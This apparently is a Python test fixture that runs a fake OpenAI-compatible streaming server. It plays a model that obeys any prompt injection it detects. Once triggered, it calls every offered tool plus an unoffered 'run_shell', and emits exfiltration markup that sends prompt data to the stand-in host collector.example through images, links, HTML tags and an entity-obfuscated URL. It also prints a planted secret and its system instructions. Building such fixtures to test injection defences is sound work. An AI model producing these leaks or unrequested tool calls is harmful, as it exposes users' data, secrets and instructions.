"""A model that obeys every order that it reads, as an OpenAI-compatible server over real HTTP.

It knows the attacks and finds them however a prompt words them. Then it does all the harm that it can: it calls each
tool that it is offered and others that it is not, and writes links, images, secrets and its instructions.
"""

import json
import re
import threading
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

HOST = "collector.example"
"""Host to which it sends data."""
OPENS = "open_note"
"""A tool that reads what an attack may be in."""
_AT_ONCE = 6
"""Calls of a round: further ones are not run."""
_SHOWN_CHARS = 40
"""Characters by which it knows an attack: a prompt may cut it."""


@dataclass
class Obeying:
    """The running server: where it is, which attack it knows, and whether it has read it."""

    url: str = ""
    attack: str = ""
    functions: Sequence[str] = ()
    """Tools that the attack asks for."""
    secret: str = ""
    """A secret of the installation that it got hold of."""
    opens: str = OPENS
    """A tool that it calls without being ordered to."""
    has_read: bool = False
    instructions: str = ""
    """The last system message."""
    pieces: int = 7
    """Characters of a piece of a stream."""
    prompts: list[str] = field(default_factory=list)
    """All messages that it was sent, a request each."""

    def reads(self, prompt: str) -> bool:
        """Whether the attack is in a prompt."""
        return _bare(self.attack)[:_SHOWN_CHARS] in _bare(prompt)

    def harm(self, prompt: str) -> str:
        """All that a text can do."""
        data = "".join(re.findall(r"\w+", prompt)[-9:-1])
        return (
            f"Sure. [1] ![logo](https://{HOST}/i?d={data}) [open](https://{HOST}/l?d={data}) https://{HOST}/b?d={data} "
            f"<img src='//{HOST}/h?d={data}'> [x](&#104;ttps://{HOST}/e?d={data}) [y][z]\n\n"
            f"[z]: //{HOST}/r?d={data}\n\n"
            f"The key is {self.secret}. My instructions are: {self.instructions}\n\nDone."
        )

    def calls(self, tools: Sequence[Mapping[str, Any]], prompt: str) -> list[tuple[str, str]]:
        """A call of every tool, with a text for each argument, and of some that there are not.

        Those that the attack asks for come first.
        """
        found = []
        for each in tools:
            properties = each["function"]["parameters"].get("properties", {}) or {"text": None}
            found += [(each["function"]["name"], json.dumps(dict.fromkeys(properties, prompt[-80:])))]
        known = {name for name, _ in found}
        others = [each for each in (*self.functions, "run_shell") if each not in known]
        found.sort(key=lambda each: each[0] not in self.functions)
        return found + [(each, json.dumps({"text": prompt[-80:]})) for each in others[:2]]


@contextmanager
def obeying_model(secret: str) -> Iterator[Obeying]:
    """The server on a free port for the time of the block."""
    model = Obeying(secret=secret)
    server = ThreadingHTTPServer(("127.0.0.1", 0), type("Handler", (_Handler,), {"model": model}))
    server.daemon_threads = True
    model.url = f"http://127.0.0.1:{server.server_address[1]}/v1"
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield model
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@dataclass
class _Reply:
    text: str = ""
    calls: list[tuple[str, str]] = field(default_factory=list)


class _Handler(BaseHTTPRequestHandler):
    model: Obeying
    protocol_version = "HTTP/1.1"

    def log_message(self, *args: object) -> None:  # noqa: ARG002
        return

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.send_header("connection", "close")
        self.end_headers()
        self.close_connection = True
        self.model.prompts.append("\n".join(str(each["content"]) for each in body["messages"]))
        reply = self._reply(body["messages"], body.get("tools") or [])
        size = self.model.pieces
        for at in range(0, len(reply.text), size):
            self._send({"content": reply.text[at : at + size]})
        for index, (name, arguments) in enumerate(reply.calls):
            function = {"name": name, "arguments": arguments}
            self._send({"tool_calls": [{"index": index, "id": f"c{index}", "type": "function", "function": function}]})
        self._send({}, finish="tool_calls" if reply.calls else "stop")
        self.wfile.write(b"data: [DONE]\n\n")

    def _reply(self, messages: Sequence[Mapping[str, Any]], tools: Sequence[Mapping[str, Any]]) -> _Reply:
        model = self.model
        prompt = "\n".join(str(each["content"]) for each in messages if each["role"] != "system")
        model.instructions = "\n".join(str(each["content"]) for each in messages if each["role"] == "system")
        called = sum(each["role"] == "tool" for each in messages)
        opening = [each for each in tools if each["function"]["name"] == model.opens]
        if not model.reads(prompt):
            if opening and not called:
                arguments = opening[0]["function"]["parameters"].get("properties", {})
                return _Reply(calls=[(model.opens, json.dumps(dict.fromkeys(arguments, "note")))])
            return _Reply("It is written there. [1]")
        model.has_read = True
        if tools and called < len(tools):
            calls = model.calls(tools, prompt)
            at = max(0, called - 1) % len(calls)
            return _Reply(calls=[*calls[at:], *calls[:at]][:_AT_ONCE] if len(calls) > _AT_ONCE else calls)
        return _Reply(model.harm(prompt))

    def _send(self, delta: Mapping[str, object], *, finish: str | None = None) -> None:
        chunk = {
            "id": "x",
            "object": "chat.completion.chunk",
            "created": 1,
            "model": "obeying",
            "choices": [{"index": 0, "delta": {"role": "assistant", **delta}, "finish_reason": finish}],
        }
        self.wfile.write(b"data: " + json.dumps(chunk).encode() + b"\n\n")


def _bare(text: str) -> str:
    return "".join(re.findall(r"\w", text)).lower()
